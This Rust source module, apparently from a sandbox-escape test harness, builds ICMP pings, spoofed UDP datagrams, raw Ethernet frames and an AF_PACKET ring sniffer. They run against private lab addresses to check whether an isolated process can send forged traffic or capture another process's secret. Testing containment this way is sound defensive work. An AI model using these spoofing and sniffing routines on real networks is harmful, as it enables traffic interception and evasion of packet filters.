//! Packets made by hand, and those of others.

use std::net::UdpSocket;
use std::time::Duration;

use libc::{AF_INET, AF_PACKET, SOCK_DGRAM, SOCK_RAW, SYS_sendto, SYS_socket};
use nix::errno::Errno;

use super::{address, done, index_of_card, pause};
use crate::attack::{claim_from, find_secret};
use crate::call::{Outcome, at, call};
use crate::order::Order;
use crate::witness::scene::Scene;

/// The checksum of the Internet protocols (RFC 1071).
fn checksum(bytes: &[u8]) -> u16 {
    let sum: u32 =
        bytes.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0))).sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    !((folded & 0xffff) as u16 + (folded >> 16) as u16)
}

pub(super) fn ping(order: &Order) -> Outcome {
    const ICMP: usize = 1;
    let mut echo = vec![8, 0, 0, 0, 0x4e, 0x61, 0, 1];
    echo.extend(order.token.as_bytes());
    let sum = checksum(&echo).to_be_bytes();
    echo[2..4].copy_from_slice(&sum);
    let socket = call(SYS_socket, &[AF_INET as usize, SOCK_DGRAM as usize, ICMP])
        .or_else(|_| call(SYS_socket, &[AF_INET as usize, SOCK_RAW as usize, ICMP]))?;
    send_raw(socket, &echo, [10, 0, 2, 2])
}

fn send_raw(socket: usize, packet: &[u8], host: [u8; 4]) -> Outcome {
    let address = address(host, 0);
    for _ in 0..2 {
        call(
            SYS_sendto,
            &[socket, packet.as_ptr() as usize, packet.len(), 0, at(&address), size_of_val(&address)],
        )?;
        pause();
    }
    done()
}

/// An IPv4 packet with a UDP datagram.
fn datagram(order: &Order, from: [u8; 4], to: [u8; 4]) -> Vec<u8> {
    let text = order.token.as_bytes();
    let length = 28 + text.len() as u16;
    let mut packet = vec![0x45, 0];
    packet.extend(length.to_be_bytes());
    packet.extend([0x4e, 0x61, 0, 0, 64, 17, 0, 0]);
    packet.extend(from);
    packet.extend(to);
    let sum = checksum(&packet).to_be_bytes();
    packet[10..12].copy_from_slice(&sum);
    packet.extend(7001u16.to_be_bytes());
    packet.extend(7001u16.to_be_bytes());
    packet.extend((8 + text.len() as u16).to_be_bytes());
    packet.extend([0, 0]);
    packet.extend(text);
    packet
}

pub(super) fn forged(order: &Order) -> Outcome {
    const RAW: usize = 255;
    let socket = call(SYS_socket, &[AF_INET as usize, SOCK_RAW as usize, RAW])?;
    send_raw(socket, &datagram(order, [10, 0, 2, 99], [10, 0, 2, 2]), [10, 0, 2, 2])
}

fn packet_socket() -> Result<(usize, libc::sockaddr_ll), Errno> {
    let every = (libc::ETH_P_ALL as u16).to_be();
    let socket = call(SYS_socket, &[AF_PACKET as usize, SOCK_RAW as usize, every as usize])?;
    let address = libc::sockaddr_ll {
        sll_family: AF_PACKET as u16,
        sll_protocol: every,
        sll_ifindex: index_of_card()?,
        sll_hatype: 0,
        sll_pkttype: 0,
        sll_halen: 6,
        sll_addr: [0xff; 8],
    };
    call(libc::SYS_bind, &[socket, at(&address), size_of_val(&address)])?;
    Ok((socket, address))
}

pub(super) fn raw_frame(order: &Order) -> Outcome {
    let (socket, address) = packet_socket()?;
    let mut frame = vec![0xff; 6];
    frame.extend([2, 0, 0, 0, 0, 1, 8, 0]);
    frame.extend(datagram(order, [10, 0, 2, 98], [10, 0, 2, 2]));
    call(
        SYS_sendto,
        &[socket, frame.as_ptr() as usize, frame.len(), 0, at(&address), size_of_val(&address)],
    )?;
    pause();
    done()
}

/// A process of the OS sends a secret over the card, again and again.
pub(super) const SNIFFED: Scene =
    Scene::new("a process of the attacker knows the secret that another sent", |world, _| {
        let text = format!("{}{}", world.order.mark(), world.secret);
        if let Ok(socket) = UdpSocket::bind(("0.0.0.0", 0)) {
            // From netd's uid the packet filter lets it pass.
            let _ = socket.send_to(text.as_bytes(), ("10.0.2.2", 7001));
        }
        world.is_claimed()
    });

/// `struct tpacket_req`: two blocks of a page each.
const RING: [u32; 4] = [4096, 2, 2048, 4];

pub(super) fn sniff(order: &Order) -> Outcome {
    const RX_RING: usize = 5;
    let (socket, _) = packet_socket()?;
    let level = libc::SOL_PACKET as usize;
    call(libc::SYS_setsockopt, &[socket, level, RX_RING, at(&RING), size_of_val(&RING)])?;
    let length = 8192;
    let rights = libc::PROT_READ | libc::PROT_WRITE;
    // SAFETY: a new mapping of the ring, which is never given back.
    let ring =
        unsafe { libc::mmap(std::ptr::null_mut(), length, rights, libc::MAP_SHARED, socket as i32, 0) };
    if ring == libc::MAP_FAILED {
        return Err(Errno::last());
    }
    let until = std::time::Instant::now() + Duration::from_secs(2);
    while std::time::Instant::now() < until {
        std::thread::sleep(Duration::from_millis(50));
        // SAFETY: the ring has two pages; the kernel may write to it, which at worst tears what is read.
        let bytes = unsafe { std::slice::from_raw_parts(ring.cast::<u8>(), length) }.to_vec();
        if find_secret(order, &bytes).is_some() {
            return claim_from(order, &bytes);
        }
    }
    Err(Errno::ENODATA)
}
